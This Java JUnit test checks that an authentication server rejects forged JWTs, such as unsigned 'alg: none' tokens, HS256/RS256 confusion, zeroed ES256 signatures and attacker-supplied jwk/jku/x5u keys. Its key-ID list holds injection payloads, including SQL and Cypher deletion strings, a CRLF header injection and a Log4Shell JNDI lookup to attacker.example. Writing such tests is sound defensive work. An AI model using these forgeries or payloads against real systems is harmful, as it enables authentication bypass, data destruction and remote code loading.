package nl.jeugdgraaf.auth;

import static com.nimbusds.jose.JWSAlgorithm.HS256;
import static com.nimbusds.jose.JWSAlgorithm.RS256;
import static com.nimbusds.jose.JWSAlgorithm.RS512;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/// Attacks with tokens that the issuer did not sign: without a signature, with confused algorithms
/// and with foreign keys. Each gets 401 with a challenge, nothing runs, and nothing is fetched for
/// the attacker.
class ForgedTokenTest {
  private static final RSAKey ATTACKER_KEY = TestIssuer.rsa("attacker");
  private static final Base64URL ZEROS = Base64URL.encode(new byte[64]);

  @RegisterExtension static final TokenServer SERVER = new TokenServer();

  /// Publishes the attacker's key, in case the server can be lured into fetching it.
  private static final TestIssuer ATTACKER = new TestIssuer();

  @AfterAll
  static void stop() {
    ATTACKER.close();
  }

  private static JWSHeader.Builder withoutKeyId() {
    return new JWSHeader.Builder(RS256);
  }

  private static URI attackersKeys() {
    ATTACKER.publish(List.of(ATTACKER_KEY));
    return ATTACKER.address();
  }

  private static String unsigned(String header) {
    return TestIssuer.unsigned(header);
  }

  private static String byAttacker(JWSHeader.Builder header) {
    return TestIssuer.signed(header, ATTACKER_KEY, TestIssuer.claims());
  }

  private static String byIssuer(JWSHeader.Builder header) {
    return TestIssuer.signed(header, TestIssuer.RSA, TestIssuer.claims());
  }

  private static String withSecret(byte[] secret) {
    try {
      var token =
          new JWSObject(
              new JWSHeader.Builder(HS256).keyID(TestIssuer.RSA.getKeyID()).build(),
              new Payload(TestIssuer.claims().build().toString()));
      token.sign(new MACSigner(secret));
      return token.serialize();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] publicKey() {
    try {
      return TestIssuer.RSA.toRSAPublicKey().getEncoded();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] publicKeyInPem() {
    var lines = java.util.Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(publicKey());
    return ("-----BEGIN PUBLIC KEY-----\n" + lines + "\n-----END PUBLIC KEY-----\n")
        .getBytes(StandardCharsets.US_ASCII);
  }

  private static Stream<Arguments> withoutSignature() {
    var good = TestIssuer.token();
    return Stream.of(
        arguments("algorithm none", unsigned("{\"alg\":\"none\"}")),
        arguments("algorithm None", unsigned("{\"alg\":\"None\"}")),
        arguments("algorithm NONE", unsigned("{\"alg\":\"NONE\"}")),
        arguments("algorithm nOnE", unsigned("{\"alg\":\"nOnE\",\"typ\":\"JWT\"}")),
        arguments("no algorithm", unsigned("{\"typ\":\"JWT\"}")),
        arguments("algorithm null", unsigned("{\"alg\":null}")),
        arguments("empty signature", unsigned("{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}")),
        arguments("no signature", good.substring(0, good.lastIndexOf('.'))),
        arguments("truncated signature", good.substring(0, good.length() - 8)),
        arguments(
            "algorithm given twice",
            unsigned("{\"alg\":\"RS256\",\"alg\":\"none\",\"kid\":\"rsa-1\"}") + ZEROS));
  }

  private static Stream<Arguments> confusedAlgorithms() {
    return Stream.of(
        arguments("HS256 with the public key as secret", withSecret(publicKey())),
        arguments("HS256 with the public key in PEM as secret", withSecret(publicKeyInPem())),
        arguments(
            "ES256 with r = s = 0",
            unsigned("{\"alg\":\"ES256\",\"kid\":\"" + TestIssuer.EC.getKeyID() + "\"}") + ZEROS),
        arguments(
            "ES256 with an RSA key",
            unsigned("{\"alg\":\"ES256\",\"kid\":\"" + TestIssuer.RSA.getKeyID() + "\"}") + ZEROS),
        arguments(
            "algorithm that is not accepted",
            byIssuer(new JWSHeader.Builder(RS512).keyID(TestIssuer.RSA.getKeyID()))));
  }

  private static Stream<Arguments> foreignKeys() {
    return Stream.of(
        arguments("attacker's key", byAttacker(TestIssuer.rs256())),
        arguments("jwk", byAttacker(withoutKeyId().jwk(ATTACKER_KEY.toPublicJWK()))),
        arguments(
            "jwk with a known kid", byAttacker(TestIssuer.rs256().jwk(ATTACKER_KEY.toPublicJWK()))),
        arguments("jku", byAttacker(TestIssuer.rs256().jwkURL(attackersKeys()))),
        arguments("x5u", byAttacker(TestIssuer.rs256().x509CertURL(attackersKeys()))),
        arguments(
            "x5c",
            byAttacker(
                TestIssuer.rs256()
                    .x509CertChain(List.of(Base64.encode(new byte[] {48, 3, 2, 1, 0}))))));
  }

  private static Stream<Arguments> strangeKeyIds() {
    return Stream.of(
            "../../dev/null",
            "/dev/null",
            "' OR 1=1 --",
            "x'}) MATCH (n) DETACH DELETE n //",
            "${jndi:ldap://attacker.example/a}",
            "\r\nSet-Cookie: a=b",
            "http://attacker.example/key",
            "")
        .flatMap(id ->
            Stream.of(
                arguments("attacker's key with kid " + id, byAttacker(withoutKeyId().keyID(id))),
                arguments("unknown kid " + id, byIssuer(withoutKeyId().keyID(id + "?")))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"withoutSignature", "confusedAlgorithms", "foreignKeys", "strangeKeyIds"})
  void aForgedTokenIsRefused(String attack, String token) throws Exception {
    SERVER.assertNotAccepted(SERVER.send("Bearer " + token), token);
    assertEquals(0, ATTACKER.fetches(), attack);
  }
}
